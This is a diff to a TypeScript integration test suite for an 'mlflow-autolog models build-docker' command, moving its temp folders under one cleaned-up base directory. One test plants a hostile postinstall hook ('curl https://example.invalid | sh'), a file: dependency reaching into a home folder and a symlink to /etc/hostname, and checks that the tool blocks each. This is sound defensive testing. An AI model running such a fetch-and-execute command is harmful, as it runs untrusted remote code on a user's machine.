@@ -7,14 +7,18 @@
  */
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join, relative } from 'node:path';
-import { before, describe, test } from 'node:test';
+import { after, before, describe, test } from 'node:test';
 import semver from 'semver';
 import { fillStore, type FilledStore } from '../harness/cli';
 import { runNode, type NodeResult } from '../harness/node';
 import { REPO_ROOT, runPython } from '../harness/python';
+
+const base = mkdtempSync(join(tmpdir(), 'cli-build-docker-it-'));
+after(() => rmSync(base, { recursive: true, force: true }));
+const tempDir = (prefix: string) => mkdtempSync(join(base, prefix));
 
 const DRIVER = join(REPO_ROOT, 'test', 'fixtures', 'models-build-docker-cli.js');
 const SERVE = ['mlflow-autolog', 'models', 'serve', '-m', '/opt/ml/model', '-h', '0.0.0.0', '-p', '8080'];
@@ -64,8 +68,8 @@ describe('mlflow-autolog models build-docker', () => {
   /** The model's files as MLflow's own client downloads them. */
   let mlflowCopy: string;
   before(async () => {
-    store = await fillStore(undefined, 1, 3);
-    mlflowCopy = mkdtempSync(join(tmpdir(), 'build-docker-model-'));
+    store = await fillStore(undefined, 1, 3, base);
+    mlflowCopy = tempDir('build-docker-model-');
     await runPython([
       '-c',
       `import mlflow; mlflow.set_tracking_uri(${JSON.stringify(store.trackingUri)}); mlflow.artifacts.download_artifacts("models:/${store.model}/${store.ids.version}", dst_path=${JSON.stringify(mlflowCopy)})`,
@@ -73,7 +77,7 @@ describe('mlflow-autolog models build-docker', () => {
   });
 
   test('the Dockerfile installs Node, the recorded dependencies and the model in /opt/ml/model, exposes 8080 and runs models serve', async () => {
-    const context = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const context = join(tempDir('build-docker-'), 'context');
     const result = await buildDocker(['-m', `models:/${store.model}/${store.ids.version}`, '-n', 'forest:1', '-d', context, '--no-build', '--tracking-uri', store.trackingUri]);
     assert.equal(result.code, 0, result.stderr);
     assert.equal(result.stdout, `${context}\n`);
@@ -110,9 +114,9 @@ describe('mlflow-autolog models build-docker', () => {
   });
 
   test('--install-from puts an npm pack tarball in the context and installs mlflow-autolog from it', async () => {
-    const tarball = join(mkdtempSync(join(tmpdir(), 'build-docker-tgz-')), 'mlflow-autolog-0.1.0.tgz');
+    const tarball = join(tempDir('build-docker-tgz-'), 'mlflow-autolog-0.1.0.tgz');
     writeFileSync(tarball, Buffer.from('not really a tarball, but its bytes must arrive'));
-    const context = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const context = join(tempDir('build-docker-'), 'context');
     const result = await buildDocker(['-m', mlflowCopy, '-d', context, '--no-build', '--install-from', tarball]);
     assert.equal(result.code, 0, result.stderr);
     assert.deepEqual(readFileSync(join(context, 'mlflow-autolog.tgz')), readFileSync(tarball));
@@ -125,13 +129,13 @@ describe('mlflow-autolog models build-docker', () => {
   });
 
   test('a model cannot bring an install script, a non-registry dependency, node_modules or a link out of its folder', async () => {
-    const model = mkdtempSync(join(tmpdir(), 'build-docker-hostile-'));
+    const model = tempDir('build-docker-hostile-');
     cpSync(mlflowCopy, model, { recursive: true });
     const recorded = JSON.parse(readFileSync(join(model, 'package.json'), 'utf8')) as Record<string, unknown> & { dependencies: Record<string, string> };
     writeFileSync(join(model, 'package.json'), JSON.stringify({ ...recorded, scripts: { postinstall: 'curl https://example.invalid | sh' } }));
     mkdirSync(join(model, 'node_modules', 'left-behind'), { recursive: true });
     writeFileSync(join(model, 'node_modules', 'left-behind', 'index.js'), '');
-    const withScript = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const withScript = join(tempDir('build-docker-'), 'context');
     const scripted = await buildDocker(['-m', model, '-d', withScript, '--no-build']);
     assert.equal(scripted.code, 0, scripted.stderr);
     const manifest = JSON.parse(readFileSync(join(withScript, 'package.json'), 'utf8')) as Record<string, unknown>;
@@ -140,7 +144,7 @@ describe('mlflow-autolog models build-docker', () => {
     assert.equal(existsSync(join(withScript, 'model_dir', 'node_modules')), false, 'the model\'s node_modules stays out of the image');
 
     writeFileSync(join(model, 'package.json'), JSON.stringify({ ...recorded, dependencies: { ...recorded.dependencies, helper: 'file:../../home' } }));
-    const fileDependency = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const fileDependency = join(tempDir('build-docker-'), 'context');
     const refused = await buildDocker(['-m', model, '-d', fileDependency, '--no-build']);
     assert.equal(refused.code, 2);
     assert.match(refused.stderr, /depends on "helper" at "file:\.\.\/\.\.\/home": an image installs registry packages at pinned versions only/);
@@ -148,7 +152,7 @@ describe('mlflow-autolog models build-docker', () => {
 
     writeFileSync(join(model, 'package.json'), JSON.stringify(recorded));
     symlinkSync('/etc/hostname', join(model, 'data', 'hostname'));
-    const linked = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const linked = join(tempDir('build-docker-'), 'context');
     const linkOut = await buildDocker(['-m', model, '-d', linked, '--no-build']);
     assert.equal(linkOut.code, 2);
     assert.match(linkOut.stderr, /Refusing to copy the model: data\/hostname is a symbolic link to \/etc\/hostname, outside the model folder/);
@@ -156,13 +160,13 @@ describe('mlflow-autolog models build-docker', () => {
   });
 
   test('a Python-only model, a used output folder and a bad image name exit 2 saying what to do', async () => {
-    const python = mkdtempSync(join(tmpdir(), 'build-docker-python-'));
+    const python = tempDir('build-docker-python-');
     writeFileSync(join(python, 'MLmodel'), 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n');
     const notOurs = await buildDocker(['-m', python, '-d', join(python, '..', 'out-python'), '--no-build']);
     assert.equal(notOurs.code, 2);
     assert.match(notOurs.stderr, /has no js_function flavor, so mlflow-autolog cannot serve it \(flavors: python_function\)\. .*mlflow models build-docker/);
 
-    const used = mkdtempSync(join(tmpdir(), 'build-docker-used-'));
+    const used = tempDir('build-docker-used-');
     writeFileSync(join(used, 'keep.txt'), 'mine');
     const notEmpty = await buildDocker(['-m', mlflowCopy, '-d', used, '--no-build']);
     assert.equal(notEmpty.code, 2);
@@ -178,7 +182,7 @@ describe('mlflow-autolog models build-docker', () => {
   });
 
   test('without docker on PATH, the build exits 1 and says where the context is and how to build it', async () => {
-    const context = join(mkdtempSync(join(tmpdir(), 'build-docker-')), 'context');
+    const context = join(tempDir('build-docker-'), 'context');
     const result = await buildDocker(['-m', mlflowCopy, '-n', 'forest:2', '-d', context], { PATH: dirname(process.execPath) });
     assert.equal(result.code, 1);
     assert.match(result.stderr, new RegExp(`docker is not installed here \\(or not on PATH\\)\\. The build context is in ${context}; build it where Docker runs with: docker build -t forest:2 ${context}`));
